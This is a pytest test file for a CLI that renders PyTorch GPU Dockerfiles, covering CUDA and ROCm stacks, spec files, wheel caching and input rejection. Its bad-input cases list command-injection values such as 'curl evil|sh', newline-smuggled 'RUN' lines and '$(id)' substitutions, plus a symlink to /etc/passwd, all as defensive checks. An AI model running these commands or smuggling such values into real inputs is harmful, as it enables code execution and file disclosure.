"""`gpuenv build-image` through the real CLI: bad input, --render-only, specs, stacks, no Docker."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.build_image.rocm import mi300x_stack, rocm_stack, write_stack
from tests.build_image.test_hadolint import lint_dockerfiles
from tests.conftest import REPO, run_gpuenv

NO_DOCKER = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}


def _fails_cleanly(result: subprocess.CompletedProcess[str], code: int) -> None:
    assert result.returncode == code, result.stderr
    assert result.stderr.startswith("gpuenv: error: "), result.stderr  # Click's usage errors too
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--pip", "x; curl evil|sh"],
        ["--pip", "einops\nRUN id"],
        ["--tag", "a b"],
        ["--tag", "team/torch:1\nRUN id"],
        ["--build-arg", "X=$(id)"],
        ["--build-arg", "X=`id`"],
        ["--build-arg", "X=a\nb"],
        ["--base-image", "ubuntu\nRUN curl evil|sh"],
        ["--index-url", "https://mirror.example.com/whl\nRUN id"],
        ["--index-url", "file:///etc"],
        ["--cuda", "11.7; id"],
        ["--torch", "2.0.1\nRUN id"],
        ["--gpu", "H100\nRUN id"],
        ["--os", "ubuntu22.04\nx"],
        ["--with", "torchtext"],
        ["--with", "none,torchvision"],
        ["--app", "/nonexistent/app"],
        ["--wheelhouse", "/nonexistent/wheels"],
        ["--spec", "no-such-spec"],
        ["--flavor", "debug"],
        ["--os", "rockylinux9", "--python", "3.10"],
        ["--os", "debian12"],
        ["--flavor", "devel", "--slim"],
        ["--torch", "2.15.0", "--with", "torchvision"],
        ["--push"],
        ["--verify"],
    ],
)
def test_bad_input_exits_2_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
    dest = tmp_path / "out"
    result = run_gpuenv("build-image", *args, "--render-only", str(dest), env=NO_DOCKER)
    _fails_cleanly(result, 2)
    assert not dest.exists()


def test_rocky_linux_renders_without_docker(tmp_path: Path) -> None:
    dest = tmp_path / "out"
    result = run_gpuenv(
        "build-image", "--os", "rockylinux9", "--cuda", "12.4", "--render-only", str(dest), env=NO_DOCKER
    )
    assert result.returncode == 0, result.stderr
    text = (dest / "Dockerfile").read_text()
    assert "FROM ${BASE_IMAGE} AS python-base" in text and "nvidia/cuda:12.4.1-runtime-rockylinux9" in text


def test_render_only_writes_a_buildable_context_without_docker(tmp_path: Path) -> None:
    dest = tmp_path / "ctx"
    result = run_gpuenv(
        "build-image",
        "--cuda",
        "11.7",
        "--cudnn",
        "--os",
        "ubuntu20.04",
        "--render-only",
        str(dest),
        "--json",
        env=NO_DOCKER,
    )
    assert result.returncode == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["base_image"] == "nvidia/cuda:11.7.1-cudnn8-runtime-ubuntu20.04"
    names = sorted(p.name for p in dest.iterdir())
    assert names == sorted(
        [
            ".dockerignore",
            ".gpuenv-manifest",  # what --force may replace later
            "Dockerfile",
            "constraints.txt",
            "extra-requirements.txt",
            "gpuenv-wheel",
            "requirements.txt",
            "stack.json",
        ]
    )
    assert json.loads((dest / "stack.json").read_text())["cuda"] == "11.7.1"
    wheels = list((dest / "gpuenv-wheel").glob("gpuenv-*-py3-none-any.whl"))
    assert len(wheels) == 1
    with zipfile.ZipFile(wheels[0]) as wheel:
        assert "gpuenv/cli/build_cmd.py" in wheel.namelist()
        assert "gpuenv/_shipped/templates/docker/Dockerfile.j2" in wheel.namelist()
    assert "numpy<" in (dest / "requirements.txt").read_text()


def test_render_only_refuses_a_non_empty_directory_unless_forced(tmp_path: Path) -> None:
    dest = tmp_path / "ctx"
    dest.mkdir()
    (dest / "mine.txt").write_text("keep me")
    (dest / "Dockerfile").write_text("old")
    refused = run_gpuenv("build-image", "--cuda", "12.4", "--render-only", str(dest), env=NO_DOCKER)
    _fails_cleanly(refused, 2)
    assert "--force" in refused.stderr and (dest / "Dockerfile").read_text() == "old"
    forced = run_gpuenv("build-image", "--cuda", "12.4", "--render-only", str(dest), "--force", env=NO_DOCKER)
    assert forced.returncode == 0, forced.stderr
    assert (dest / "mine.txt").read_text() == "keep me"
    assert (dest / "Dockerfile").read_text().startswith("# PyTorch")


def test_render_only_never_writes_outside_the_directory(tmp_path: Path) -> None:
    app = tmp_path / "app"
    (app / "pkg").mkdir(parents=True)
    (app / "main.py").write_text("print('hi')\n")
    (app / "requirements.txt").write_text("einops==0.8.1\n")
    (app / "pkg" / "link").symlink_to("/etc/passwd")
    (app / ".git").mkdir()
    (app / ".git" / "HEAD").write_text("ref\n")
    dest = tmp_path / "ctx"
    before = {p for p in tmp_path.rglob("*")}
    result = run_gpuenv("build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(dest), env=NO_DOCKER)
    assert result.returncode == 0, result.stderr
    new = {p for p in tmp_path.rglob("*")} - before
    assert all(p.is_relative_to(dest) for p in new)
    assert (dest / "app" / "pkg" / "link").is_symlink()  # copied as a link, not followed
    assert not (dest / "app" / ".git").exists()
    assert "COPY app/requirements.txt /tmp/gpuenv/app-requirements.txt" in (dest / "Dockerfile").read_text()
    inside = run_gpuenv(
        "build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(app / "ctx"), env=NO_DOCKER
    )
    _fails_cleanly(inside, 2)
    assert not (app / "ctx").exists()


def test_spec_by_name_renders_the_checked_in_dockerfile(tmp_path: Path) -> None:
    for spec in sorted((REPO / "images").glob("*.toml")):
        dest = tmp_path / spec.stem
        result = run_gpuenv("build-image", "--spec", spec.stem, "--render-only", str(dest), env=NO_DOCKER)
        assert result.returncode == 0, result.stderr
        assert (dest / "Dockerfile").read_text() == spec.with_suffix(".Dockerfile").read_text()


def test_spec_file_with_an_unknown_key_is_refused(tmp_path: Path) -> None:
    spec = tmp_path / "x.toml"
    spec.write_text('[stack]\ncuda = "12.4"\n[image]\nflavour = "devel"\n')
    result = run_gpuenv("build-image", "--spec", str(spec), "--render-only", str(tmp_path / "out"), env=NO_DOCKER)
    _fails_cleanly(result, 2)
    assert "flavour" in result.stderr


def test_stack_file_from_resolve_is_rendered_exactly(tmp_path: Path) -> None:
    resolved = run_gpuenv("resolve", "--cuda", "12.8", "--gpu", "H100", "--json")
    assert resolved.returncode == 0, resolved.stderr
    stack_file = tmp_path / "stack.json"
    stack_file.write_text(resolved.stdout)
    dest = tmp_path / "ctx"
    result = run_gpuenv(
        "build-image", "--stack", str(stack_file), "--flavor", "devel", "--render-only", str(dest), env=NO_DOCKER
    )
    assert result.returncode == 0, result.stderr
    assert json.loads((dest / "stack.json").read_text()) == json.loads(resolved.stdout)
    assert 'TORCH_CUDA_ARCH_LIST="9.0"' in (dest / "Dockerfile").read_text()


def test_a_rocm_stack_file_renders_runtime_and_devel_without_docker(tmp_path: Path) -> None:
    stack_file = write_stack(mi300x_stack(), tmp_path / "stack.json")
    for flavor in ("runtime", "devel"):
        dest = tmp_path / flavor
        result = run_gpuenv(
            "build-image", "--stack", str(stack_file), "--flavor", flavor, "--render-only", str(dest), env=NO_DOCKER
        )
        assert result.returncode == 0, result.stderr
        text = (dest / "Dockerfile").read_text()
        assert "rocm/dev-ubuntu-24.04:6.4" in text and "CUDA_HOME" not in text and "nvidia" not in text
        assert ('PYTORCH_ROCM_ARCH="gfx942"' in text) is (flavor == "devel")
        assert (
            f"build it with: docker build -t gpuenv/pytorch:2.9.1-rocm6.4-py3.12-ubuntu24.04-{flavor}" in result.stdout
        )


_CUDA_PIECES = ("CUDA_HOME", "TORCH_CUDA_ARCH_LIST", "nvidia", "NVIDIA_", "cudnn", "/usr/local/cuda")


@pytest.mark.parametrize(
    ("args", "base", "arch"),
    [
        (("--rocm", "6.4", "--torch", "2.9.1"), "rocm/dev-ubuntu-22.04:6.4.4", None),
        (("--gpu", "MI300X", "--flavor", "devel"), "-complete", 'PYTORCH_ROCM_ARCH="gfx942"'),
    ],
)
def test_rocm_flags_render_a_hadolint_clean_dockerfile_without_cuda_pieces(
    tmp_path: Path, args: tuple[str, ...], base: str, arch: str | None
) -> None:
    dest = tmp_path / "ctx"
    result = run_gpuenv("build-image", *args, "--render-only", str(dest), env=NO_DOCKER)
    assert result.returncode == 0, result.stderr
    text = (dest / "Dockerfile").read_text()
    stack = json.loads((dest / "stack.json").read_text())
    assert stack["build"].startswith("rocm") and (stack["cuda"], stack["cudnn"]) == ("none", None)
    assert base in result.stderr and [p for p in _CUDA_PIECES if p in text] == []
    assert "PYTORCH_ROCM_ARCH" not in text if arch is None else arch in text
    lint_dockerfiles([dest / "Dockerfile"])


def test_a_spec_may_name_a_rocm_release(tmp_path: Path) -> None:
    spec = tmp_path / "rocm.toml"
    spec.write_text('[stack]\ntorch = "2.9.1"\nrocm = "6.4"\nos = "ubuntu24.04"\n[image]\nflavor = "devel"\n')
    dest = tmp_path / "ctx"
    result = run_gpuenv("build-image", "--spec", str(spec), "--render-only", str(dest), env=NO_DOCKER)
    assert result.returncode == 0, result.stderr
    stack = json.loads((dest / "stack.json").read_text())
    assert (stack["torch"], stack["build"], stack["os"]) == ("2.9.1", "rocm6.4", "ubuntu24.04")
    assert "rocm/dev-ubuntu-24.04:6.4.4-complete" in (dest / "Dockerfile").read_text()
    spec.write_text('[stack]\nrocm = "6.4; id"\n')
    _fails_cleanly(run_gpuenv("build-image", "--spec", str(spec), "--render-only", str(tmp_path / "x")), 2)


def test_a_rocm_stack_file_from_resolve_is_rendered_exactly(tmp_path: Path) -> None:
    resolved = run_gpuenv("resolve", "--torch", "2.9.1", "--rocm", "6.4", "--os", "ubuntu24.04", "--json")
    assert resolved.returncode == 0, resolved.stderr
    stack_file = tmp_path / "stack.json"
    stack_file.write_text(resolved.stdout)
    for flavor in ("runtime", "devel"):
        dest = tmp_path / flavor
        result = run_gpuenv(
            "build-image", "--stack", str(stack_file), "--flavor", flavor, "--render-only", str(dest), env=NO_DOCKER
        )
        assert result.returncode == 0, result.stderr
        assert json.loads((dest / "stack.json").read_text()) == json.loads(resolved.stdout)
        assert (
            f"rocm/dev-ubuntu-24.04:6.4.4{'-complete' if flavor == 'devel' else ''}"
            in (dest / "Dockerfile").read_text()
        )


def test_a_rocm_stack_asked_for_cudnn_is_exit_2_with_a_hint(tmp_path: Path) -> None:
    stack_file = write_stack(rocm_stack(), tmp_path / "stack.json")
    dest = tmp_path / "ctx"
    result = run_gpuenv("build-image", "--stack", str(stack_file), "--cudnn", "--render-only", str(dest), env=NO_DOCKER)
    _fails_cleanly(result, 2)
    assert "cuDNN" in result.stderr and "hint:" in result.stderr and "--flavor runtime or devel" in result.stderr
    assert not dest.exists()


def test_wheelhouse_without_the_pinned_torch_is_refused_before_writing(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "numpy-2.0.0-cp311-cp311-manylinux_2_17_x86_64.whl").write_bytes(b"")
    dest = tmp_path / "ctx"
    result = run_gpuenv(
        "build-image",
        "--torch",
        "2.13.0",
        "--with",
        "none",
        "--wheelhouse",
        str(wheels),
        "--render-only",
        str(dest),
        env=NO_DOCKER,
    )
    _fails_cleanly(result, 2)
    assert "torch==2.13.0" in result.stderr and not dest.exists()


def test_wheelhouse_without_gpuenv_dependencies_or_extras_is_refused(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    present = [
        "torch-2.13.0-cp311-cp311-manylinux_2_28_x86_64.whl",
        "click-8.1.0-py3-none-any.whl",
        "jinja2-3.1.0-py3-none-any.whl",
        "msgspec-0.18.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        "packaging-24.0-py3-none-any.whl",
        "rich-13.0.0-py3-none-any.whl",
    ]
    for name in present:
        (wheels / name).write_bytes(b"")
    args = ["build-image", "--torch", "2.13.0", "--with", "none", "--wheelhouse", str(wheels)]
    missing_nvml = run_gpuenv(*args, "--render-only", str(tmp_path / "a"), env=NO_DOCKER)
    _fails_cleanly(missing_nvml, 2)
    assert "nvidia-ml-py" in missing_nvml.stderr
    (wheels / "nvidia_ml_py-13.0.0-py3-none-any.whl").write_bytes(b"")
    missing_extra = run_gpuenv(*args, "--pip", "einops==0.8.1", "--render-only", str(tmp_path / "b"), env=NO_DOCKER)
    _fails_cleanly(missing_extra, 2)
    assert "einops" in missing_extra.stderr and not (tmp_path / "b").exists()
    complete = run_gpuenv(*args, "--render-only", str(tmp_path / "c"), env=NO_DOCKER)
    assert complete.returncode == 0, complete.stderr
    assert sorted(p.name for p in (tmp_path / "c" / "wheels").iterdir()) == sorted(p.name for p in wheels.iterdir())


@pytest.mark.parametrize(
    "args", [["--os", "debian12"], ["--torch", "2.15.0", "--with", "torchvision"], ["--tag", "a b"]]
)
def test_a_bad_request_is_exit_2_even_without_docker(args: list[str]) -> None:
    _fails_cleanly(run_gpuenv("build-image", *args, env=NO_DOCKER), 2)


def test_build_without_a_docker_daemon_exits_3_with_a_hint() -> None:
    result = run_gpuenv("build-image", "--cuda", "12.4", env=NO_DOCKER)
    _fails_cleanly(result, 3)
    assert "Docker daemon" in result.stderr and "--render-only" in result.stderr


def test_eol_base_warns_and_offers_digest_pinning(tmp_path: Path) -> None:
    result = run_gpuenv("build-image", "--cuda", "11.7", "--render-only", str(tmp_path / "ctx"), env=NO_DOCKER)
    assert result.returncode == 0, result.stderr
    assert "end-of-life" in result.stderr and "--pin-base" in result.stderr


def test_rendering_imports_neither_docker_nor_torch() -> None:
    probe = (
        "import sys; from gpuenv.cli import build_cmd; from gpuenv.image.plan import BuildRequest, plan_image; "
        "from gpuenv.render.dockerfile import render_image; from gpuenv.render.images import curated_specs; "
        "plans = [plan_image(BuildRequest(spec=str(p)), kb_path=None) for p in curated_specs()]; "
        "[render_image(plan.stack, plan.options, plan.os_info) for plan in plans]; "
        "from tests.build_image.rocm import rocm_stack; from gpuenv.render.dockerfile import ImageOptions; "
        "from gpuenv.kb import load_kb; "
        "render_image(rocm_stack(), ImageOptions(flavor='devel'), load_kb().os_by_name['ubuntu24.04']); "
        "heavy = [m for m in ('docker', 'torch', 'ansible_runner', 'pynvml', 'rich') if m in sys.modules]; "
        "print(heavy)"
    )
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, cwd=REPO)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "[]"


def test_render_only_copies_gpuenvs_own_wheel_from_a_cache_keyed_on_its_content(tmp_path: Path) -> None:
    """The first run builds the wheel into the cache (atomically) and copies it; the next copies it again,
    byte for byte what a fresh build gives, without building; a cache that cannot be written is no error."""
    from gpuenv.selfwheel import build_own_wheel

    env = {**NO_DOCKER, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    args = ("build-image", "--cuda", "12.4", "--render-only")
    assert run_gpuenv(*args, str(tmp_path / "a"), env=env).returncode == 0
    cached = list((tmp_path / "cache" / "gpuenv" / "wheels").iterdir())
    assert len(cached) == 1 and cached[0].suffix == ".whl", cached  # no temporary file left beside it
    made = cached[0].stat()
    assert run_gpuenv(*args, str(tmp_path / "b"), env=env).returncode == 0
    assert (cached[0].stat().st_ino, cached[0].stat().st_mtime_ns) == (made.st_ino, made.st_mtime_ns)
    fresh = build_own_wheel(tmp_path / "fresh").read_bytes()
    for context in ("a", "b"):
        (wheel,) = (tmp_path / context / "gpuenv-wheel").glob("gpuenv-*-py3-none-any.whl")
        assert wheel.read_bytes() == fresh and not wheel.samefile(cached[0])  # a copy, not the cache's file
    (tmp_path / "not-a-folder").write_text("")
    unwritable = {**NO_DOCKER, "XDG_CACHE_HOME": str(tmp_path / "not-a-folder")}
    proc = run_gpuenv(*args, str(tmp_path / "c"), env=unwritable)
    assert proc.returncode == 0, proc.stderr
    assert next((tmp_path / "c" / "gpuenv-wheel").glob("*.whl")).read_bytes() == fresh


def test_the_wheel_cache_key_is_the_content_and_the_cache_keeps_the_newest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    from gpuenv import selfwheel

    source = tmp_path / "module.py"
    source.write_text("A = 1\n")
    before = selfwheel._content_key([("gpuenv/module.py", source)], "meta")
    source.write_text("A = 2\n")  # an edit in a checkout: the version stays, the key does not
    assert selfwheel._content_key([("gpuenv/module.py", source)], "meta") != before
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    cache = selfwheel.cache_dir()
    cache.mkdir(parents=True)
    for age in range(6):
        stale = cache / f"gpuenv-0.0.{age}-old.whl"
        stale.write_bytes(b"old")
        os.utime(stale, (1_000_000 + age, 1_000_000 + age))
    selfwheel.own_wheel(tmp_path / "ctx")
    kept = sorted(p.name for p in cache.iterdir())
    assert len(kept) == selfwheel.CACHED and "gpuenv-0.0.5-old.whl" in kept and "gpuenv-0.0.0-old.whl" not in kept
